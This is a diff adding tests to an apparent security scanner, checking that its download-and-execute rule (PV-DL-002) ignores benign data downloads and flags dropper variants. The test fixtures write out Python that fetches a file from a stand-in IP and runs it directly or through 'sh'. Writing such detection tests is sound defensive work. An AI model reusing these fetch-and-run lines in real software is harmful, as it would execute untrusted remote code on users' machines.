@@ -186,3 +186,27 @@ def test_console_output_naming_a_script_is_not_a_saved_program() -> None:
     assert run(RULES, py(source, path="acme/web.py", stage=Stage.RUNTIME)) == []
     saved = source.replace("'notes.txt'", "'update.exe'")
     assert "PV-DL-002" in ids(run(RULES, py(saved, path="acme/web.py", stage=Stage.RUNTIME)))
+
+
+def test_a_downloaded_file_handed_to_a_data_tool_is_not_run() -> None:
+    """pyro's examples download a data set and ``gunzip`` it: the program run is gunzip."""
+    source = (
+        "import subprocess, urllib.request\n"
+        "def load(path):\n"
+        "    urllib.request.urlretrieve('http://198.51.100.7/data.gz', path)\n"
+        "    subprocess.check_call(['gunzip', '-k', path])\n"
+    )
+    assert "PV-DL-002" not in ids(run(RULES, py(source, stage=Stage.RUNTIME)))
+    for runner in ("[path]", "['sh', path]", "'gunzip -k ' + path + ' && ./data'"):
+        dropper = source.replace("['gunzip', '-k', path]", runner)
+        assert "PV-DL-002" in ids(run(RULES, py(dropper, stage=Stage.RUNTIME))), runner
+
+
+def test_copying_a_script_asset_is_not_saving_a_program() -> None:
+    source = (
+        "import shutil, requests\n"
+        "r = requests.get('https://api.example/custom')\n"
+        "shutil.copyfile(SOURCE / 'loader.js', STATIC / 'loader.js')\n"
+    )
+    assert "PV-DL-002" not in ids(run(RULES, py(source, path="acme/config.py")))
+    assert "PV-DL-002" in ids(run(RULES, py(source.replace(".js", ".exe"), path="acme/config.py")))
